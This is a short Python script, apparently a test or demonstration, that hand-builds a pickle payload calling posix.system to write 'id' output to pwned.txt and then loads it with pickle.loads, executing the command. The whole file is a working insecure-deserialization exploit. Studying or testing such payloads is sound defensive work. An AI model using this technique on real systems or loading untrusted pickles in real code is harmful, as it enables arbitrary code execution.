"""Hostile job: unpickle attacker data whose reduce calls os.system."""
import pickle
payload = b"cposix\nsystem\n(S'id > pwned.txt'\ntR."
pickle.loads(payload)
